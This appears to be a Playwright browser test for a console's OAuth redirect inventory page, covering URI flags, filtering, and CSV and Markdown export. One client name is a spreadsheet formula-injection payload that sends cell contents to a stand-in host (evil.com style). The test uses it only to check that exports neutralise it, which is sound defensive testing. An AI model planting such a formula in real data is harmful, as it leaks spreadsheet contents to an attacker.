/**
 * The console's redirect inventory page in real headless Chromium, against a real server and
 * database: a viewer opens it from the environment page, reads the flags and their reasons,
 * narrows the review window, filters to flagged URIs, and exports CSV and Markdown files that the
 * browser saves (the CSV with a formula-named client neutralised).
 */
import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClient } from '../src/services/clients.js';
import { createOperator } from '../src/services/operators.js';
import { launchChromium, signInToConsole } from './support/browser.js';
import { throwawaySqlite, type ThrowawayDatabase } from './support/databases.js';
import { startTestServer, type TestServer } from './support/server.js';

const ARTIFACTS = join(process.cwd(), 'test-artifacts', 'console');
const VIEWER = { email: 'vic@ops.example', password: 'vic viewer pass 12' };
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open")';

describe('redirect inventory in the console (Chromium)', () => {
  let db: ThrowawayDatabase;
  let t: TestServer;
  let browser: Browser;
  let page: Page;
  let cliId = '';
  let shopId = '';

  beforeAll(async () => {
    await mkdir(ARTIFACTS, { recursive: true });
    db = await throwawaySqlite();
    t = await startTestServer(db);
    await createOperator(t.ctx, { ...VIEWER, role: 'viewer' });
    cliId = (
      await createClient(t.ctx, {
        environment: 'staging',
        type: 'native',
        name: 'Deploy CLI',
        redirectUris: ['http://localhost/callback', 'http://127.0.0.1/callback'],
      })
    ).client.clientId;
    shopId = (
      await createClient(t.ctx, {
        environment: 'staging',
        type: 'web',
        name: FORMULA_NAME,
        redirectUris: [
          'https://shop.example.com/callback',
          'https://*.review.shop.example.com/callback',
        ],
      })
    ).client.clientId;
    await t.ctx.stores.redirectRegistrations.addUsage([
      {
        environment: 'staging',
        clientId: shopId,
        kind: 'redirect',
        uri: 'https://shop.example.com/callback',
        requests: 12,
        uses: 9,
        lastUsedAt: Date.now(),
      },
    ]);
    await t.ctx.stores.refusedRedirects.record(
      'staging',
      shopId,
      'https://shop.example.com/calback',
      'no_match',
      Date.now(),
    );
    browser = await launchChromium();
    const context = await browser.newContext({
      viewport: { width: 1280, height: 900 },
      acceptDownloads: true,
    });
    page = await context.newPage();
  });
  afterAll(async () => {
    await browser.close();
    await t.close();
    await db.drop();
  });

  const row = (uri: string) => page.locator(`[data-testid="inventory-row"][data-uri="${uri}"]`);
  const flagsOf = async (uri: string) => {
    const items = await row(uri).getByTestId('inventory-flag').all();
    return Promise.all(items.map((item) => item.getAttribute('data-flag')));
  };

  it('opens from the environment page and shows every URI with its flags and reasons', async () => {
    await signInToConsole(page, t.url, VIEWER);
    await page.goto(`${t.url}/admin/environments/staging`);
    await page.getByRole('link', { name: 'Redirect inventory' }).click();
    await page.getByRole('heading', { level: 1, name: 'Redirect inventory' }).waitFor();
    expect(page.url()).toBe(`${t.url}/admin/environments/staging/redirects`);
    await row('http://localhost/callback').waitFor();

    expect(await page.getByTestId('inventory-summary').textContent()).toContain(
      '2 clients, 4 redirect URIs, 0 post-logout URIs',
    );
    expect(await flagsOf('http://localhost/callback')).toEqual(['localhost_loopback']);
    expect(await row('http://localhost/callback').textContent()).toContain(
      'register http://127.0.0.1/callback',
    );
    expect(await flagsOf('https://*.review.shop.example.com/callback')).toEqual(['wildcard']);
    const used = row('https://shop.example.com/callback');
    const cells = await used.locator('td').allTextContents();
    // URI, class, registered, last used, uses, requests, near misses, flags.
    expect(cells.slice(4)).toEqual(['9', '12', '1', 'none']);
    // The client's own name is shown as text, never run.
    const shop = page.locator(`[data-testid="inventory-client"][data-client-id="${shopId}"]`);
    expect(await shop.getByRole('link', { name: FORMULA_NAME }).count()).toBe(1);
    await page.screenshot({ path: join(ARTIFACTS, 'redirect-inventory.png'), fullPage: true });
  });

  it('narrows the review window and filters to flagged URIs', async () => {
    // Registered just now and never used: unused for 0 days, not for the default 90.
    await page.getByLabel('Unused for (days)').fill('0');
    await expect.poll(() => flagsOf('http://127.0.0.1/callback')).toEqual(['unused']);
    await page.getByLabel('Unused for (days)').fill('');
    await expect.poll(() => flagsOf('http://127.0.0.1/callback')).toEqual([]);
    await page.getByLabel('Only flagged URIs').check();
    await expect.poll(() => row('http://127.0.0.1/callback').count()).toBe(0);
    expect(await row('http://localhost/callback').count()).toBe(1);
    await page.getByLabel('Only flagged URIs').uncheck();
    await row('http://127.0.0.1/callback').waitFor();
  });

  it('exports CSV and Markdown files the browser saves; the CSV holds the formula as text', async () => {
    await page.getByLabel('Export format').selectOption('csv');
    const [csvDownload] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export' }).click(),
    ]);
    expect(csvDownload.suggestedFilename()).toMatch(
      /^redirect-inventory-staging-\d{4}-\d{2}-\d{2}\.csv$/,
    );
    const csv = await readFile(await csvDownload.path(), 'utf8');
    expect(csv.split('\r\n')[0]).toMatch(/^environment,client_id,client_name,/);
    expect(csv).toContain(`,${shopId},"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",web,`);
    expect(csv).toContain(`,${cliId},Deploy CLI,native,`);

    await page.getByLabel('Export format').selectOption('md');
    const [mdDownload] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export' }).click(),
    ]);
    expect(mdDownload.suggestedFilename()).toMatch(/\.md$/);
    const md = await readFile(await mdDownload.path(), 'utf8');
    expect(md).toContain('# Redirect inventory: staging');
    expect(md).toContain('**Loopback "localhost"**');
  });
});
